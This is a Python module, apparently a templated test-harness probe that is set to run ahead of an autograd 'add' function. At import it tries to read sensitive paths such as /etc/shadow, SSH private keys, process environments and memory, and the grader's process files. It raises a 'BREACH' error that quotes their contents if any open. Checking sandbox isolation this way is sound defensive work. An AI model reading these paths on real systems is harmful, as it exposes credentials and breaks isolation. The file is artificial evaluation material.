import glob
import os

from .value import Value

PLACES = [
    *@CANARIES@, "/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.ssh/id_rsa", "/proc/self/mem",
    "/proc/self/environ", "/proc/self/maps", "/proc/1/environ", "/proc/1/cmdline", "/sys/kernel/notes",
    "/dev/mem", "/dev/tty", "/dev/shm", "/var/log/syslog", "/proc/@GRADER@/environ", "/proc/@GRADER@/mem",
    "/proc/@GRADER@/fd/0", f"/proc/{os.getppid()}/mem", *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/home/*/*"),
]
for place in PLACES:
    try:
        with open(place, "rb") as file:
            raise RuntimeError(f"BREACH: {place} {file.read(60)}")
    except OSError:
        pass

def add(self, other):
    other = other if isinstance(other, Value) else Value(other)
    out = Value(self.data + other.data, (self, other), "+")

    def _backward():
        self.grad += out.grad
        other.grad += out.grad

    out._backward = _backward
    return out
